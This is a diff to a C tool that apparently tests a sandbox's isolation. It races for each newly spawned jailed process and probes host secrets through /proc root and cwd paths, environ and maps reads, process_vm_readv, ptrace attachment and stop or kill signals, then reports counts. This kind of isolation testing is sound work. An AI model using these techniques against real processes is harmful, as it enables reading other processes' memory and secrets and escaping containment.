@@ -49,7 +49,7 @@ static long inflate(char** args) {
 
 /* ---- the window between a command's birth in the jail and its exec */
 
-static struct {
+static struct robbery {
   const char* secret; /* a path on the host */
   const char* mount;  /* a mount point that only the host has */
   const char* socket; /* the name of a socket that only the host's network has */
@@ -93,7 +93,7 @@ static void rob(int pid) {
   window.places += exists(OF("/proc/%d/root%s", pid, window.secret));
   window.places += exists(OF("/proc/%d/cwd/../../../../../../..%s", pid, window.secret));
   window.places += can_read(OF("/proc/%d/exe", pid));
-  window.memory += can_read(OF("/proc/%d/maps", pid)) + exists(OF("/proc/%d/map_files/.", pid)) * 0;
+  window.memory += can_read(OF("/proc/%d/maps", pid));
   window.environment += can_read(OF("/proc/%d/environ", pid));
   window.memory += process_vm_readv(pid, &here, 1, &there, 1, 0) > 0;
   for (int fd = 0; fd < 24; fd++) window.descriptors += exists(OF("/proc/%d/fd/%d", pid, fd));
@@ -107,6 +107,8 @@ static void rob(int pid) {
   close(pidfd);
   if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
     window.traced++;
+    ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
+    waitpid(pid, NULL, __WALL);
     ptrace(PTRACE_DETACH, pid, NULL, NULL);
   }
 #undef OF
@@ -125,19 +127,23 @@ static int is_on_its_way(int pid) {
 
 static int exists_now(int pid) { return kill(pid, 0) == 0 || errno == EPERM; }
 
-/* The same once more while it stands still, where it may be stopped. */
+/* What was taken counts unless it was a command by then: that one is fair game. */
+static void rob_on_the_way(int pid) {
+  struct robbery before = window;
+  if (!is_on_its_way(pid)) return;
+  rob(pid);
+  if (!is_on_its_way(pid)) window = before;
+}
+
+/* Where it may be stopped it stands still meanwhile: else there is hardly time for a second go. */
 static void attack(int pid) {
   if (!is_on_its_way(pid)) return;
   window.seen++;
-  if (kill(pid, SIGSTOP) == 0) {
-    window.stopped++;
-    for (int i = 0; i < 3 && is_on_its_way(pid); i++) rob(pid);
-    kill(pid, SIGCONT);
-    if (window.stopped % 3 == 0) kill(pid, SIGKILL);
-    return;
-  }
-  rob(pid);
-  if (is_on_its_way(pid)) rob(pid);
+  int stopped = kill(pid, SIGSTOP) == 0;
+  for (int i = 0; i < 3; i++) rob_on_the_way(pid);
+  if (!stopped) return;
+  window.stopped += is_on_its_way(pid);
+  kill(pid, window.stopped % 3 == 2 ? SIGKILL : SIGCONT);
 }
 
 static void report_window(void) {
@@ -154,23 +160,26 @@ static void set_window(char** args) {
   window.socket = args[2];
 }
 
+/* The last pid that was given out. */
+static int last_pid(void) {
+  pid_t pid = fork();
+  if (pid == 0) _exit(0);
+  waitpid(pid, NULL, 0);
+  return (int)pid;
+}
+
 /* SECONDS SECRET MOUNT SOCKET: pids are given out in order, so whoever is born next is waited for. */
 static long attack_window(char** args) {
   double end = now() + atof(args[0]);
-  int own = (int)getpid(), last = own;
   set_window(args + 1);
   printf("attacking\n");
   fflush(stdout);
   while (now() < end) {
-    for (int i = 0; i < 2000; i++) {
-      for (int next = last + 1; next < last + 4; next++) {
-        if (!exists_now(next)) continue;
-        attack(next);
-        last = next;
-        break;
-      }
+    int next = last_pid() + 1;
+    for (int i = 0; i < 3000; i++) {
+      if (!exists_now(next)) continue;
+      attack(next++);
     }
-    if (last > 30000) break;
   }
   report_window();
   return 0;
